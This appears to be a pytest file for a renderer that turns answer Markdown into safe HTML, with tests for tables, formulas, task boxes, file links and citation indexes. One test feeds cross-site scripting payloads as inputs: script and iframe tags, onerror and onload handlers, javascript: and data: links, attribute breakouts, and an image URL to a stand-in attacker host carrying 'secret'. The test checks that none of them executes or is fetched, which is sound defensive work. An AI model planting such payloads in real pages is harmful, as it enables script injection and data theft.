"""What the HTTP door shows of an answer: Markdown in which nothing acts, and citations."""

import re
from html.parser import HTMLParser

import pytest

from task.api.markdown import blocks_of
from task.api.responses_items import citations
from task.core_client.files import file_id_of


class Elements(HTMLParser):
    """The elements of a text with their attributes, as a browser finds them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def html_of(text: str) -> str:
    return "".join(block.html for block in blocks_of(text))


def test_headings_lists_tables_and_code_are_rendered() -> None:
    html = html_of(
        "# Sales\n\n- **A**: 1\n\n|a|b|\n|-|-:|\n|1|2|\n\n```py\nprint('<b>')\n```\n~~old~~ https://a.example/x"
    )
    assert "<h1>Sales</h1>" in html
    assert "<li><strong>A</strong>: 1</li>" in html
    assert '<td align="right">2</td>' in html
    assert "<code class=\"language-py\">print('&lt;b&gt;')\n</code>" in html
    assert "<s>old</s>" in html
    assert '<a href="https://a.example/x" rel="noopener noreferrer nofollow">' in html


FORMULAS = {
    "a $x_1 * y_1$ b": "a {x_1 * y_1} b",
    r"a \(\alpha_1\) b \[\beta\] c": r"a {\alpha_1} b {{\beta}} c",
    "in $$a*b*c$$ line": "in {{a*b*c}} line",
    "Text\n\\[\na\n- b\n= c\n\\]\nafter": "Text {{a\n- b\n= c}} after",
    "$$\nx\n+ y\n$$": "{{x\n+ y}}",
    "- a\n\n  $$\n  x\n  $$": "a {{x}}",
    r"$\text{5\$}$": r"{\text{5\$}}",
    "It costs $5 and $10, US$7, $5-$10 or $10 (in US$)": "It costs $5 and $10, US$7, $5-$10 or $10 (in US$)",
    "`$x$` and $HOME/$PATH": "`$x$` and $HOME/$PATH",
    r"\$5$ \\(x\\)": r"$5$ \(x\)",
    "$$\na\n\nb$$": "$$\na b$$",
}


@pytest.mark.fault("web page: prices beside formulas")
@pytest.mark.parametrize(("text", "shown"), FORMULAS.items(), ids=map(repr, FORMULAS))
def test_formulas_are_marked_with_their_tex_and_prices_and_code_stay_as_they_are(text: str, shown: str) -> None:
    html = re.sub(r'<span class="math">([^<]*)</span>', r"{\1}", html_of(text))
    html = re.sub(r'<span class="math display">([^<]*)</span>', r"{{\1}}", html)
    html = re.sub(r"</?code>", "`", html)
    assert re.sub(r"</?(p|ul|li)>", " ", html).split() == shown.split()


@pytest.mark.fault("web page: a formula or a block of code that has not ended")
def test_the_lines_of_a_formula_that_has_not_ended_become_no_list() -> None:
    assert html_of("$$\na\n- b\n") == "<p>$$a\n- b</p>\n"


@pytest.mark.fault("web page: a formula or a block of code that has not ended")
def test_code_is_open_until_its_block_has_ended() -> None:
    states = {"```py\nx": True, "```py\nx\n": True, "```py": True, "```py\nx\n```": False, "```\n```": False}
    assert {text: "open" in html_of(text) for text in states} == states
    assert 'class="open language-js"' in html_of("- a\n  ```js\n  b")


def test_tasks_are_boxes_that_nobody_can_tick() -> None:
    html = html_of("- [ ] one\n- [x] two <input onfocus=alert(1)>")
    assert '<li><input disabled="disabled" type="checkbox"> one</li>' in html
    assert '<input checked="checked" disabled="disabled" type="checkbox"> two &lt;input' in html


def test_files_of_the_answer_are_links_and_other_relative_addresses_are_not() -> None:
    html = html_of("[r](<files/b/a b.csv>) ![p](files/b/p.png) [x](runs/1) [y](#/traces) [z](#note-1)")
    assert re.findall(r'href="([^"]*)"', html) == ["files/b/a%20b.csv", "files/b/p.png"]


def test_the_address_of_a_file_in_the_text_is_a_link() -> None:
    html = html_of(
        "Stored as files/b/http/ann/q3.csv, (files/b/x_1.pdf). Not files/folders, `files/b/c` or myfiles/b/c."
    )
    assert re.findall(r'href="([^"]*)"[^>]*>([^<]*)<', html) == [
        ("files/b/http/ann/q3.csv", "files/b/http/ann/q3.csv"),
        ("files/b/x_1.pdf", "files/b/x_1.pdf"),
    ]


def test_every_block_has_the_line_where_it_begins() -> None:
    assert [block.line for block in blocks_of("one\n\ntwo\nlines\n\n\n- three")] == [0, 2, 6]
    assert blocks_of("") == []


@pytest.mark.fault("web page: scripts, links and foreign pictures in formulas, diagrams and code")
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        '<iframe src="https://evil.example"></iframe>', "[here](javascript:alert(1))",
        "[here](JaVaScRiPt&colon;alert(1))", "[here](data:text/html;base64,PHNjcmlwdD4=)",
        "[here](data:image/png;base64,AAAA)", "![x](https://evil.example/x.png?d=secret)",
        "![x](//evil.example/x.png)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        '[a](https://a.example "x\\" onmouseover=alert(1)")', "<style>body{display:none}</style>",
        "```html onload=alert(1)\n<b>\n```", "$<img src=x onerror=alert(1)>$", r"\\[<script>alert(1)</script>\\]",
        "$$\n<iframe src=https://evil.example>\n", '[a](files/x" onmouseover=alert(1))',
        "![a](files/x#'onerror=alert(1))",
    ],
)  # fmt: skip
def test_nothing_acts_and_nothing_is_fetched(text: str) -> None:
    found = Elements(html_of(text)).found
    assert {tag for tag, _ in found} <= {"p", "a", "span", "pre", "code"}
    assert {name for _, attributes in found for name in attributes} <= {"href", "title", "rel", "class"}
    assert all(attributes.get("href", "https:").startswith("https:") for _, attributes in found)


def test_a_picture_from_elsewhere_is_named_and_one_that_came_along_is_shown() -> None:
    assert "Chart (a picture at evil.example, not loaded)" in html_of("![Chart](https://evil.example/c.png)")
    assert '<img src="data:image/png;base64,AAAA" alt="Chart">' in html_of("![Chart](data:image/png;base64,AAAA)")


def test_files_and_pages_are_cited_and_content_of_their_own_is_not() -> None:
    attachments = [
        {"type": "application/vnd.plotly.v1+json", "title": "Chart", "data": "{}"},
        {"type": "text/csv", "title": "Sales", "url": "files/b/http/ann/sales%202026.csv"},
        {"type": "text/markdown", "title": "[1] page 3", "data": "…", "reference_url": "files/b/r.pdf#page=3"},
        {"type": "text/markdown", "title": "News", "data": "News", "reference_url": "https://example.org/news"},
        {"type": "text/markdown", "data": "", "reference_url": "https://example.org/"},
    ]
    assert citations(attachments, "See https://example.org/news!") == [
        {
            "type": "file_citation", "file_id": file_id_of("files/b/http/ann/sales%202026.csv"),
            "filename": "sales 2026.csv", "index": 0,
        },
        {"type": "file_citation", "file_id": file_id_of("files/b/r.pdf"), "filename": "r.pdf", "index": 1},
        {
            "type": "url_citation", "url": "https://example.org/news", "title": "News",
            "start_index": 4, "end_index": 28,
        },
        {
            "type": "url_citation", "url": "https://example.org/", "title": "https://example.org/",
            "start_index": 4, "end_index": 24,
        },
    ]  # fmt: skip


def test_a_numbered_source_is_cited_where_its_number_stands() -> None:
    page = {"title": "[2] News", "data": "It rained.", "reference_url": "https://example.org/news"}
    [noted] = citations([page], "It was dry [1]. Then it rained [2]. https://example.org/news [2]")
    assert (noted["title"], noted["start_index"], noted["end_index"]) == ("[2] News", 31, 34)
    [unnamed] = citations([{"title": "News", "reference_url": "https://example.org"}], "See the news.")
    assert (unnamed["start_index"], unnamed["end_index"]) == (13, 13)
